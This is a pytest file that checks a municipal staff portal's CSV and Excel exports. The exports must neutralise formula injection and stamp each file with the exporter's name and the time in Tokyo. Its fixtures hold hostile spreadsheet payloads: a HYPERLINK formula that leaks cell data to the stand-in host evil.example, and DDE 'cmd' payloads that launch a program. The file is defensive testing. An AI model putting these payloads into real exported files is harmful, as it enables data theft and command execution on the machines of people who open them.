"""Exports neutralise every cell a spreadsheet would run (D36); every file names who exported it, when."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from portal.staff.exports import Stamp, csv_bytes, neutralise, workbook_bytes, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"開く")',
    "+81-90-1234-5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADER = ["受付番号", "事業者名", "件数", "日付"]
# 01:23 UTC is 10:23 in Tokyo.
STAMP = Stamp("村上 美咲 <city@example.jp>（架空市 産業観光局）", datetime(2026, 12, 1, 1, 23))
STAMP_LINE = [
    "出力者",
    "村上 美咲 <city@example.jp>（架空市 産業観光局）",
    "出力日時",
    "2026-12-01 10:23 JST",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_neutralised(value):
    assert neutralise(value) == "'" + value


def test_plain_values_are_left_alone():
    assert [neutralise(v) for v in ("架空商店", "03-1234-5678", 5, -3, 1.5, None)] == [
        "架空商店",
        "03-1234-5678",
        5,
        -3,
        1.5,
        None,
    ]


def test_csv_opens_in_excel_and_runs_nothing():
    data = csv_bytes(HEADER, [["7KQM-4XWD", value, 1, date(2020, 6, 15)] for value in HOSTILE], stamp=STAMP)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:-1]] == ["'" + value for value in HOSTILE]
    assert rows[-1] == STAMP_LINE, "the last line says who exported the file and when (Tokyo time)"
    assert rows[1][3] == "2020-06-15"


def test_xlsx_holds_text_not_formulas():
    data = xlsx_bytes(
        "6月15日の予約",
        HEADER,
        [["7KQM-4XWD", value, 1, date(2020, 6, 15)] for value in HOSTILE],
        stamp=STAMP,
    )
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # XML turns a stored CR into LF on reading; the apostrophe still leads.
    assert [c.value for c in cells] == ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert all(c.data_type == "s" for c in cells)
    assert sheet.cell(row=2, column=3).value == 1 and sheet.title == "6月15日の予約"


def test_a_workbook_names_its_exporter_in_its_properties_its_footers_and_a_sheet_of_its_own():
    data = workbook_bytes(
        [("集計", ["区分", "件数"], [["電話", 3]]), ("明細", ["日付"], [[date(2026, 12, 1)]])], stamp=STAMP
    )
    workbook = load_workbook(io.BytesIO(data))
    properties = workbook.properties
    assert properties.creator == properties.lastModifiedBy == STAMP_LINE[1]
    assert properties.title == "集計"
    assert properties.description == f"出力者: {STAMP_LINE[1]}　出力日時: 2026-12-01 10:23 JST"
    assert properties.created == datetime(2026, 12, 1, 1, 23)
    custom = {prop.name: prop.value for prop in workbook.custom_doc_props.props}
    assert custom == {"exported_by": STAMP_LINE[1], "exported_at": "2026-12-01 10:23 JST"}
    assert workbook.sheetnames == ["集計", "明細", "出力情報"], "the stamp's sheet comes last"
    stamp_sheet = workbook["出力情報"]
    assert [[cell.value for cell in row] for row in stamp_sheet.iter_rows(min_row=2)] == [
        ["出力者", STAMP_LINE[1]],
        ["出力日時", "2026-12-01 10:23 JST"],
    ]
    for sheet in workbook:
        assert sheet.oddFooter.left.text == properties.description, sheet.title


def test_a_hostile_exporter_name_runs_nothing_and_keeps_the_footer_literal():
    stamp = Stamp('=HYPERLINK("http://evil.example") & Co', datetime(2026, 12, 1, 1, 23))
    rows = list(csv.reader(io.StringIO(csv_bytes(HEADER, [], stamp=stamp).decode("utf-8-sig"), newline="")))
    assert rows[-1][1] == "'" + stamp.exporter
    workbook = load_workbook(io.BytesIO(xlsx_bytes("表", HEADER, [], stamp=stamp)))
    assert workbook["出力情報"]["B2"].value == "'" + stamp.exporter
    assert workbook["出力情報"]["B2"].data_type == "s"
    assert "&& Co" in workbook["表"].oddFooter.left.text, "a literal & is doubled in a footer"
